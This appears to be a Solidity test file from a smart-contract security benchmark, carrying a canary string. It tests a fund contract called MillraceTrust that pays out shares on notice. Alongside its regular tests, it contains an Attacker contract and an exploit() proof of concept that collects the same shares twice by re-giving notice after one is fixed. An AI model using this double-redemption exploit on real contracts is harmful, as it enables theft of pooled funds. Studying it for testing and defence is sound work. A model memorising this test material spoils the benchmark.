// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.7.6;

// assay-canary-537b4875-f558-4543-95e5-c17bb8d16dd5

import "./MillraceTrust.sol";

interface Vm {
    function warp(uint timestamp) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract Florin is IERC20 {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint) public balanceOf;
    mapping(address => mapping(address => uint)) public allowance;

    function mint(address to, uint value) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += value;
    }

    function approve(address spender, uint value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transfer(address to, uint value) external override returns (bool) {
        if (asleep) return false;
        require(balanceOf[msg.sender] >= value, "balance");
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        return true;
    }

    function transferFrom(address from, address to, uint value) external override returns (bool) {
        if (asleep) return false;
        require(balanceOf[from] >= value && allowance[from][msg.sender] >= value, "allowance");
        allowance[from][msg.sender] -= value;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        return true;
    }
}

contract Holder {
    MillraceTrust internal trust;

    constructor(MillraceTrust trust_, Florin florin) {
        trust = trust_;
        florin.approve(address(trust_), uint(-1));
    }

    function buy(uint shares) external {
        trust.buy(shares);
    }

    function giveNotice(uint shares) external {
        trust.giveNotice(shares);
    }

    function revokeNotice() external {
        trust.revokeNotice();
    }

    function collect() external returns (uint) {
        return trust.collect();
    }
}

/// A holder who gives notice anew on the day the former notice has been fixed.
contract Attacker is Holder {
    constructor(MillraceTrust trust_, Florin florin) Holder(trust_, florin) {}

    function again() external {
        trust.fixNotice(address(this));
        trust.giveNotice(trust.sharesOf(address(this)));
    }

    function finish() external {
        trust.fixNotice(address(this));
        trust.collect();
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint private constant START = 1790000000;

    Florin public florin;
    Appraisal public appraisal;
    MillraceTrust public trust;
    Holder public holder;
    Attacker public leaver;

    function setUp() public {
        vm.warp(START);
        florin = new Florin();
        appraisal = new Appraisal(100e6);
        trust = new MillraceTrust(florin, appraisal);
        holder = new Holder(trust, florin);
        leaver = new Attacker(trust, florin);
        florin.mint(address(holder), 400_000e6);
        florin.mint(address(leaver), 100_000e6);
        holder.buy(4_000);
        leaver.buy(1_000);
        trust.spend(address(0x1111), 250_000e6, "upper mill");

        leaver.giveNotice(1_000);
        vm.warp(START + 30 days);
    }

    function test_Regular() public {
        require(trust.freeCash() == 250_000e6, "free cash");

        // The notice is fixed and collected.
        require(trust.fixNotice(address(leaver)) == 100_000e6, "fixed");
        try trust.fixNotice(address(leaver)) {
            revert("fixed twice");
        } catch {}
        try leaver.revokeNotice() {
            revert("revoked what is fixed");
        } catch {}
        require(trust.fixedCash() == 100_000e6 && trust.freeCash() == 150_000e6, "set aside");
        try trust.spend(address(this), 150_000e6 + 1, "fixed money") {
            revert("spent fixed money");
        } catch {}
        require(leaver.collect() == 100_000e6, "collected");
        require(florin.balanceOf(address(leaver)) == 100_000e6, "paid");
        require(trust.sharesOf(address(leaver)) == 0 && trust.totalShares() == 4_000, "shares given up");
        try leaver.collect() {
            revert("collected twice");
        } catch {}

        // One notice at a time; it may be revoked; it must ripen; the value of the day counts.
        holder.giveNotice(100);
        try holder.giveNotice(50) {
            revert("two notices");
        } catch {}
        holder.revokeNotice();
        try holder.giveNotice(4_001) {
            revert("more than it holds");
        } catch {}
        holder.giveNotice(1_000);
        try trust.fixNotice(address(holder)) {
            revert("not ripe");
        } catch {}
        vm.warp(START + 60 days);
        appraisal.find(110e6);
        trust.fixNotice(address(holder));
        appraisal.find(90e6);
        require(holder.collect() == 110_000e6, "value of the day");

        // Not enough cash until a mill has earned some.
        holder.giveNotice(1_000);
        vm.warp(START + 90 days);
        try trust.fixNotice(address(holder)) {
            revert("short of cash");
        } catch {}
        florin.mint(address(this), 60_000e6);
        florin.approve(address(trust), 60_000e6);
        trust.earn(60_000e6);
        trust.fixNotice(address(holder));
        require(holder.collect() == 90_000e6 && trust.cash() == 10_000e6, "cash box");
        vm.warp(START + 161 days);
        try holder.buy(1) {
            revert("old appraisal");
        } catch {}
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The trustee spends, notices are of something, and florins that say no are believed.
    function test_RefusesHolders() public {
        refuses(address(holder), "Millrace: trustee only");
        trust.spend(address(holder), 1, "");
        refuses(address(holder), "Millrace: shares");
        trust.giveNotice(0);
        trust.fixNotice(address(leaver));
        florin.sleep(true);
        refuses(address(leaver), "Millrace: not paid");
        trust.collect();
        refuses(address(holder), "Millrace: not paid");
        trust.buy(1);
        vm.expectRevert("Millrace: not paid");
        trust.spend(address(this), 1, "");
        vm.expectRevert("Millrace: not paid");
        trust.earn(1);
    }

    function exploit() public {
        leaver.again();
        vm.warp(START + 60 days);
        leaver.finish();
    }

    function test_Exploit() public {
        uint before = florin.balanceOf(address(leaver));
        exploit();
        require(florin.balanceOf(address(leaver)) >= before + 200_000e6, "paid once");
    }

    function target() public view returns (address) {
        return address(trust);
    }

    function attacker() public view returns (address) {
        return address(leaver);
    }
}
